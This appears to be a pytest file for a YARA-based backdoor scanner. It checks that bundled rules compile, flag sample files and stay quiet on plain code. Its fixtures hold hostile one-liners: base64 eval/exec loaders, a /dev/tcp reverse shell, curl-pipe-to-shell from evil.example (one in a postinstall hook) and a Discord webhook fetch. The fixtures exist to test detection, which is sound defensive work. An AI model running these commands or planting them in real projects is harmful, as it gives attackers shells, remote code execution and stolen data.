"""The bundled backdoor ruleset compiles and catches the patterns it is written for."""

import pytest

from detect_backdoor.core.config import BUNDLED_RULES_DIR
from detect_backdoor.engines.yara_engine import YaraEngine
from detect_backdoor.services.analysis_service import AnalysisService

SAMPLES = {
    "BD000100": ("payload.js", "eval(Buffer.from(data, 'base64').toString());\n"),
    "BD000101": ("setup.py", "import base64\nexec(base64.b64decode(blob))\n"),
    "BD000200": ("install.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
    "BD000300": ("postinstall.sh", "curl -fsSL https://evil.example/x.sh | sh\n"),
    "BD000402": (
        "send.js",
        "fetch('https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEF')\n",
    ),
    "BD000500": ("package.json", '{"scripts": {"postinstall": "curl https://evil.example/p | sh"}}\n'),
}


def test_bundled_ruleset_is_available():
    files = AnalysisService(YaraEngine()).ensure_ruleset(BUNDLED_RULES_DIR)
    assert len(files) >= 5


def test_bundled_ruleset_compiles():
    YaraEngine().compile(BUNDLED_RULES_DIR)


@pytest.mark.parametrize("rule_id", sorted(SAMPLES))
def test_bundled_rule_matches_sample(tmp_path, rule_id):
    name, content = SAMPLES[rule_id]
    (tmp_path / name).write_text(content)

    findings = AnalysisService(YaraEngine()).analyze(tmp_path, BUNDLED_RULES_DIR)

    assert rule_id in {f.rule_id for f in findings}


def test_bundled_ruleset_is_quiet_on_plain_code(tmp_path):
    (tmp_path / "index.js").write_text("module.exports = function leftPad(s, n) { return s.padStart(n); };\n")
    assert AnalysisService(YaraEngine()).analyze(tmp_path, BUNDLED_RULES_DIR) == []
